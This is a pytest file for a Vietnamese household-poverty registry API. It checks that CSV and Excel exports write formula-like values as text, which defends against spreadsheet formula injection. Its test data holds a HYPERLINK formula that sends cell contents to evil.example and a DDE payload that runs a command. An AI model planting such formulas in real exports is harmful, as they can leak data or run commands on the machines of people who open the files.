"""Exports show text as text (OWASP "CSV Injection"): a household whose code, village and head's
name begin with each character a spreadsheet program reads as a formula is written into every CSV
and workbook as text, never as a formula. Every test runs on SQLite and on PostgreSQL (the
``client`` fixture, whose projections follow the log in-process)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.bodies import household_body

ACTOR = {"X-Actor": "canbo.xuatfile"}
PROVINCE = "19"
THAI_NGUYEN_CITY = "164"
PHUC_HA = "05485"  # a xã of Thái Nguyên city
YEAR = 2025
AGRICULTURE, AGRICULTURE_LINE = "agricultural_production", "DA3.TDA1"
# Tab and carriage return are control characters the domain refuses in a name: the unit tests
# of ``spreadsheet_safe`` cover them.
STARTS = ("=", "+", "-", "@")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


CODES = {"=": "X-EQ", "+": "X-PLUS", "-": "X-MINUS", "@": "X-AT"}
"""A code begins with a letter or a digit: only the village and the name can begin like this."""


def dangerous(start: str) -> tuple[str, str, str]:
    """A household's code, village and head's name, the last two beginning with ``start``."""
    if start == "=":
        return CODES[start], HYPERLINK, '=CMD|" /C calc"!A0'
    return CODES[start], f"{start}SUM(A1:A9)", f"{start}Nông Văn Dũng"


def written(text: str) -> str:
    """How a CSV writes the text: after a quote when it begins like a formula."""
    return "'" + text if text.startswith(("=", "+", "-", "@")) else text


class Office:
    """Writes through the API and reads what it wrote."""

    def __init__(self, client: TestClient) -> None:
        self.client = client
        self.position = 0

    def post(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        answer = self.client.post(path, json=body, headers=ACTOR)
        assert answer.status_code == 201, answer.text
        result: dict[str, Any] = answer.json()
        self.position = max(self.position, result["position"])
        return result

    def file(self, path: str, **params: Any) -> bytes:
        answer = self.client.get(path, params={"min_position": self.position, **params})
        assert answer.status_code == 200, answer.text
        content: bytes = answer.content
        return content


@pytest.fixture
def office(client: TestClient) -> tuple[Office, str]:
    """One poor household per dangerous start, each given a support from one allocation."""
    office = Office(client)
    allocation = office.post(
        "/allocations",
        {
            "source": "central_recurrent",
            "fiscal_year": YEAR,
            "programme_line": AGRICULTURE_LINE,
            "unit_code": THAI_NGUYEN_CITY,
            "amount": 100_000_000,
            "decision_no": "164-DA3-2025/QĐ-UBND",
            "decided_on": f"{YEAR}-01-15",
        },
    )["allocation_id"]
    for start in STARTS:
        code, village, head = dangerous(start)
        body = household_body(code, PHUC_HA)
        body["village"] = village
        body["members"][0]["name"] = head
        household = office.post("/households", body)["id"]
        office.post(
            f"/households/{household}/recognitions",
            {"status": "poor", "decided_on": "2024-06-01", "decision_no": f"{start}/QĐ-UBND"},
        )
        office.post(
            f"/households/{household}/supports",
            {
                "support_type": AGRICULTURE,
                "provided_on": f"{YEAR}-03-01",
                "amount": 5_000_000,
                "allocation_id": allocation,
            },
        )
    return office, allocation


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_cell_begins_like_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_a_registers_csv_writes_text_that_begins_like_a_formula_after_a_quote(
    office: tuple[Office, str], lang: str
) -> None:
    desk, _ = office
    for kind in ("poor", "near_poor", "newly_escaped", "average"):
        rows = csv_rows(
            desk.file(f"/registers/{kind}", as_of="2025-12-31", format="csv", lang=lang)
        )
        assert_no_cell_begins_like_a_formula(rows)
    rows = csv_rows(desk.file("/registers/poor", as_of="2025-12-31", format="csv", lang=lang))
    by_code = {row[0]: row for row in rows[1:]}
    assert len(rows) == 1 + len(STARTS)
    for start in STARTS:
        code, village, head = dangerous(start)
        assert by_code[written(code)][1:4] == [written(head), "Phúc Hà", written(village)]


def test_the_funds_csvs_write_text_that_begins_like_a_formula_after_a_quote(
    office: tuple[Office, str],
) -> None:
    desk, allocation = office
    for lang in ("vi", "en"):
        trace = csv_rows(desk.file(f"/allocations/{allocation}/trace", format="csv", lang=lang))
        assert_no_cell_begins_like_a_formula(trace)
        codes = {row[2] for row in trace[1:]}
        assert codes == {written(code) for code in CODES.values()}
        assert {row[6] for row in trace[1:]} == {"5000000"}  # amounts stay numbers
        summary = csv_rows(
            desk.file("/funds/summary", fiscal_year=YEAR, unit=PROVINCE, format="csv", lang=lang)
        )
        assert_no_cell_begins_like_a_formula(summary)
        assert summary[1][2:] == ["100000000", "20000000", "80000000"]


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/reports/movements.xlsx", {"from": "2024-01-01", "to": "2025-12-31"}),
        ("/reports/deprivations.xlsx", {"as_of": "2025-12-31"}),
        ("/indicators.xlsx", {"year": YEAR}),
    ],
)
@pytest.mark.parametrize("area", [PROVINCE, THAI_NGUYEN_CITY, PHUC_HA])
def test_no_workbook_cell_is_a_formula(
    office: tuple[Office, str], path: str, params: dict[str, Any], area: str
) -> None:
    desk, _ = office
    workbook = load_workbook(io.BytesIO(desk.file(path, area=area, **params)))
    texts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    assert texts > 0
